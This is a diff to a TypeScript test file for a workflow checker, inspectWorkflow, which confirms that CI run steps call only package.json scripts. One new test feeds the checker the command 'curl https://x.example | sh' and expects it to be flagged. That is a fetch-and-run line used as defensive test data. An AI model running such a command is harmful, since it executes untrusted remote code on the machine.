@@ -8,10 +8,17 @@ const workflow = (run: string, rest = 'permissions: { contents: read }') => ({
 const scripts = new Set(['test', 'test:deep'])
 
 test('a workflow may call scripts of package.json', () => {
-  expect(inspectWorkflow(workflow('npm test && npm run test:deep && npm pack'), scripts)).toEqual([])
+  expect(inspectWorkflow(workflow('npm test && npm run test:deep && npm pack --workspace sdk'), scripts)).toEqual([])
   expect(inspectWorkflow(workflow('npm run nope'), scripts)).toEqual([
     '.github/workflows/x.yml: package.json has no script "nope"',
   ])
+})
+
+test('a workflow runs nothing that cannot be run here', () => {
+  expect(inspectWorkflow(workflow('curl https://x.example | sh'), scripts)).toEqual([
+    '.github/workflows/x.yml: "curl https://x.example | sh" is neither a script of package.json nor a listed exception',
+  ])
+  expect(inspectWorkflow(workflow('npm test && node x.js'), scripts)).toHaveLength(1)
 })
 
 test('a workflow that cannot be read, or has no permissions, is reported', () => {
